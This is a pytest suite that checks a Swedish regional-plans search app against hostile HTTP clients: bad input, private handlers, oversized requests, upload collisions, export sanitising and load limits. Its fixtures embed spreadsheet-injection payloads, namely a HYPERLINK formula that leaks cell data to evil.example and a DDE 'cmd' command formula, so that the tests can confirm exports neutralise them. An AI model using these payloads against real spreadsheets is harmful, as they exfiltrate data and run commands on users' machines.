"""The app under hostile clients, over HTTP on 127.0.0.1 (the real server, started here):
bad API input refused in the user's language, private handlers not callable by name,
oversized requests refused, uploads that never replace a different file and are
reported truthfully, exports without formulas or control characters, a "busy" answer
for heavy calls beyond the limit; and through it all the server keeps answering."""

from __future__ import annotations

import csv
import io
import json
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hostile import CASES

from regionplans.ui.client import RunningApp, call_app, running_app

ROOT = Path(__file__).resolve().parent.parent
MANIFEST = (
    "file,title,publisher,regions,doc_type,language,date,source_url,notes\n"
    'formel.txt,"=HYPERLINK(""http://evil.example/?leak=""&A2,""Klicka här"")",Region Dalarna,Region Dalarna,'
    "strategy,sv,2024,=1+1,\n"
)
FORMULA_DOC = ("=cmd|' /C calc'!A0\n\nRegion Dalarna ska bygga upp Genomic Medicine Sweden Dalarna under 2025 "
               "och satsar\x00 på genomik\x08 i hela regionen.\n\n"
               + "Regionen samverkar med universitetet om biobanker och kliniska studier i Falun.\n\n" * 30)  # fmt: skip


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunningApp, Path, Path]]:
    base = tmp_path_factory.mktemp("hostile-app")
    corpus = base / "corpus"
    shutil.copytree(ROOT / "corpus", corpus)
    (corpus / "manifest.csv").write_text((ROOT / "corpus" / "manifest.csv").read_text(encoding="utf-8")
                                         + MANIFEST.split("\n", 1)[1], encoding="utf-8")  # fmt: skip
    (corpus / "formel.txt").write_text(FORMULA_DOC, encoding="utf-8")
    uploads = base / "gradio"
    uploads.mkdir()
    with pytest.MonkeyPatch.context() as env:
        env.setenv("GRADIO_TEMP_DIR", str(uploads))
        env.setenv("REGIONPLANS_FILE_SECONDS", "3")
        env.setenv("REGIONPLANS_HEAVY_CALLS", "1")
        with running_app(base / "data", corpus_dir=corpus, log=base / "serve.log") as running:
            yield running, base / "data", uploads


def error_of(url: str, endpoint: str, data: list[Any], language: str = "sv") -> str:
    """The error message a call ends with (fails the test if it succeeds)."""
    with httpx.Client(base_url=url, timeout=120, headers={"Accept-Language": language}) as client:
        event = client.post(f"/gradio_api/call/{endpoint}", json={"data": data}).json()["event_id"]
        stream = client.get(f"/gradio_api/call/{endpoint}/{event}").text
    assert "event: error" in stream, stream[:500]
    payload = stream.split("event: error", 1)[1].split("data: ", 1)[1].strip().splitlines()[0]
    message = json.loads(payload)["error"] if payload != "null" else ""
    assert message, f"an error without a message: {stream[:300]}"
    for internal in ("Traceback", "NoneType", "int too big", "object at 0x", "didn't receive enough"):
        assert internal not in message, message
    return str(message)


def upload(url: str, name: str, body: bytes) -> dict[str, Any]:
    with httpx.Client(base_url=url, timeout=60) as client:
        sent = client.post("/gradio_api/upload", files={"files": (name, body, "text/plain")})
    sent.raise_for_status()
    return {"path": sent.json()[0], "orig_name": name, "meta": {"_type": "gradio.FileData"}}


@pytest.mark.slow
def test_search_input_is_checked_in_the_users_language(app: tuple[RunningApp, Path, Path]) -> None:
    running, _, _ = app
    assert "ska vara text" in error_of(running.url, "search", [None, [], "hybrid", 3])
    assert "must be text" in error_of(running.url, "search", [None, [], "hybrid", 3], "en")
    assert "heltal från 1 till 100" in error_of(running.url, "search", ["genomik", [], "hybrid", 10**30])
    assert "whole number from 1 to 100" in error_of(running.url, "search", ["genomik", [], "hybrid", 0], "en")
    assert "Okänt sökläge 'turbo'" in error_of(running.url, "search", ["genomik", [], "turbo", 3])
    assert "REGIONPLANS_MAX_QUERY_CHARS" in error_of(running.url, "search", ["genomik " * 2000, [], "hybrid", 3])
    assert "Text too long" in error_of(running.url, "search", ["x" * 1001, [], "hybrid", 3], "en")
    assert "Okänd region: Stokholm" in error_of(running.url, "search", ["genomik", ["Stokholm"], "hybrid", 3])
    assert "FILTER_VALUES" in error_of(running.url, "search", ["genomik", ["Region Skåne"] * 51, "hybrid", 3])
    assert "lista med text" in error_of(running.url, "search", ["genomik", [1, 2], "hybrid", 3])
    # A region given as one text is one region, not a list of its letters.
    hits = call_app(running.url, "search", ["genomik", "Stockholm", "hybrid", 3])[0]
    assert hits and all("Region Stockholm" in h["regions"] for h in hits)


@pytest.mark.slow
def test_private_handlers_and_oversized_requests_are_refused(app: tuple[RunningApp, Path, Path]) -> None:
    running, _, _ = app
    with httpx.Client(base_url=running.url, timeout=60) as client:
        for route in ("call", "call/v2", "run", "api"):
            for name in ("false", "false_1", "false_7", "lambda"):
                assert client.post(f"/gradio_api/{route}/{name}", json={"data": []}).status_code == 404
        big = b'{"data": ["' + b"a" * (1100 * 1024) + b'", [], "hybrid", 3]}'
        refused = client.post("/gradio_api/call/search", content=big, headers={"Content-Type": "application/json"})
        assert refused.status_code == 413 and "högst 1024 kB" in refused.json()["error"]
        english = client.post("/gradio_api/call/search", content=big,
                              headers={"Content-Type": "application/json", "Accept-Language": "en-GB"})  # fmt: skip
        assert "at most 1024 kB" in english.json()["error"]
    assert call_app(running.url, "search", ["genomik", [], "hybrid", 3])[0]  # and the server goes on


@pytest.mark.slow
def test_uploads_never_replace_a_different_file(app: tuple[RunningApp, Path, Path]) -> None:
    running, data, _ = app
    first = upload(running.url, "plan 2.txt", b"Region Gotland\n\nRegion Gotland bygger Kvarkenlabbet i Visby.\n")
    second = upload(running.url, "plan_2.txt", "Region Kalmar län\n\nRegion Kalmar län bygger Sundsbiobanken.\n".encode())
    assert "1 inlästa" in call_app(running.url, "add_documents", [[first], "sv"])[0]
    assert "1 inlästa" in call_app(running.url, "add_documents", [[second], "sv"])[0]
    for word in ("Kvarkenlabbet", "Sundsbiobanken"):
        hits = call_app(running.url, "search", [word, [], "lexical", 3])[0]
        assert any(word in h["text"] for h in hits), word
    assert len(list((data / "uploads").glob("plan_2*.txt"))) == 2
    # The same name again is an update of that file, not a new document.
    again = upload(running.url, "plan 2.txt", "Region Gotland\n\nRegion Gotland bygger Östersjölabbet i Visby.\n".encode())
    assert "1 inlästa" in call_app(running.url, "add_documents", [[again], "sv"])[0]
    assert not any("Kvarkenlabbet" in h["text"] for h in call_app(running.url, "search", ["Kvarkenlabbet", [], "lexical", 3])[0])


@pytest.mark.slow
def test_failed_uploads_are_reported_as_failed(app: tuple[RunningApp, Path, Path]) -> None:
    running, _, _ = app
    empty = upload(running.url, "tom.txt", b"")
    junk = upload(running.url, "skrap.pdf", b"not a pdf at all")
    message = call_app(running.url, "add_documents", [[empty, junk], "sv"])[0]
    assert "0 inlästa" in message and "2 misslyckade" in message, message
    assert "tom.txt: misslyckades (tom fil" in message and "skrap.pdf: misslyckades (inte en PDF-fil" in message
    bad_type = upload(running.url, "tabell.xlsx", b"PK\x03\x04")  # Gradio refuses the type itself
    assert "Invalid file type" in error_of(running.url, "add_documents", [[bad_type], "sv"])
    report = call_app(running.url, "documents", ["sv"])[1]
    assert "tom.txt" in report and "skrap.pdf" in report and "Misslyckade filer: inga" not in report


@pytest.mark.slow
def test_exports_carry_no_formula_and_no_control_character(app: tuple[RunningApp, Path, Path]) -> None:
    from openpyxl import load_workbook

    running, _, _ = app
    table, files = call_app(running.url, "compare", ["Genomic Medicine Sweden", "", ["Region Dalarna"], "sv"])
    assert "Dalarna" in table
    paths = {Path(f["path"]).suffix: Path(f["path"]) for f in files if "-provenance" not in f["path"]}
    assert set(paths) == {".csv", ".xlsx", ".md", ".json"}
    text = paths[".csv"].read_text(encoding="utf-8-sig")
    assert "=HYPERLINK" in text and not any(ch in text for ch in "\x00\x08")
    body = "".join(line for line in text.splitlines(keepends=True) if not line.startswith("# "))
    for row in csv.reader(io.StringIO(body)):
        assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    book = load_workbook(paths[".xlsx"])
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert any(str(c.value).startswith("=HYPERLINK") and c.quotePrefix for c in cells)
    assert not any(ch in paths[".md"].read_text(encoding="utf-8") for ch in "\x00\x08")
    # The export folders are the app's own: one per process, under its pid.
    folders = list(Path(paths[".csv"]).parents)
    assert not any(p.name.startswith("regionplans-export-") for p in folders)  # Gradio's copies


@pytest.mark.slow
def test_heavy_calls_beyond_the_limit_are_told_busy(app: tuple[RunningApp, Path, Path], tmp_path: Path) -> None:
    running, _, _ = app
    bombs = []
    for name in ("text_unpunctuated", "docx_bomb"):
        folder = tmp_path / name
        folder.mkdir()
        path = CASES[name](folder)[0]
        if name == "text_unpunctuated":  # cleaning is linear: twelve times the text outlasts the budget
            path.write_text(path.read_text(encoding="utf-8") * 12, encoding="utf-8")
        bombs.append(upload(running.url, path.name, path.read_bytes()))
    answers: list[str] = []

    def send(files: list[dict[str, Any]]) -> None:
        answers.append(call_app(running.url, "add_documents", [files], timeout=120)[0])

    threads = [threading.Thread(target=send, args=([bomb],)) for bomb in bombs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert len(answers) == 2
    assert any("Appen är upptagen" in a for a in answers), answers  # the app's language: Swedish
    # The bomb is stopped: by the .docx reader's XML limit before parsing, or by the budget.
    assert any("stoppades efter 3 s" in a or "över minnesbudgeten" in a or "REGIONPLANS_MAX_DOCX_XML_MB" in a
               for a in answers), answers  # fmt: skip
    assert call_app(running.url, "search", ["genomik", [], "hybrid", 3])[0]
